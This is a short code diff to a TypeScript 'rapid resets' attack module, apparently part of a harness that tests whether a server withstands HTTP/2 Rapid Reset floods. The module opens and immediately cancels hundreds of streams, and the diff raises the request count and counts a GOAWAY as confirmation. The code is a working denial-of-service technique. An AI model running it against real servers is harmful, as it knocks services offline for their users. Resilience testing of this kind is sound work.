@@ -6,12 +6,14 @@ export const attack: Attack = {
   name: 'rapid resets',
   async round(target) {
     const session = dialHttp2(target)
-    for (let at = 0; at < 300 && !session.destroyed; at++) {
+    session.once('goaway', () => target.confirm())
+    for (let at = 0; at < 600 && !session.destroyed && !session.closed; at++) {
       const stream = session.request({ ':path': '/v1/trust' })
       stream.on('error', () => undefined)
       stream.close(constants.NGHTTP2_CANCEL)
-      if (at % 20 === 0) await target.pause(20)
+      if (at % 60 === 0) await target.pause(20)
     }
+    await target.pause(500)
     session.destroy()
   },
 }
